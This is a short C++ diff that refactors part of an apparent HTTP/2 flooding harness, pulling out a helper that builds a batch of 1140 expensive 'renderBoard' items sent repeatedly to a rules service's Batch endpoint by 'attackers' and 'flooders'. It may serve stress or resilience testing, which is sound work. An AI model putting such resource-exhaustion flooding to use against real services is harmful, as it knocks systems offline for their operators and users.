@@ -283,13 +283,17 @@ int SendRandomFrames(const Attackers& attackers, const std::stop_token& stop) {
   return SendForever(attackers, next, stop);
 }
 
-int64_t FloodBundles(const Attackers& attackers, int streams, const std::stop_token& stop) {
+v1::BatchRequest CostlyBundle() {
   v1::BatchRequest request;
   for (int i = 0; i < 1140; ++i) {
     *request.mutable_bundle()->add_items() =
         Item(R"({"renderBoard":{"position":{"variant":"chak"}}})");
   }
-  const std::string bundle = Message(request.SerializeAsString());
+  return request;
+}
+
+int64_t FloodBundles(const Attackers& attackers, int streams, const std::stop_token& stop) {
+  const std::string bundle = Message(CostlyBundle().SerializeAsString());
   const std::string fields = PathFields("/arbiter.v1.RulesService/Batch");
   struct Flooder {
     std::unique_ptr<Http2Client> client;
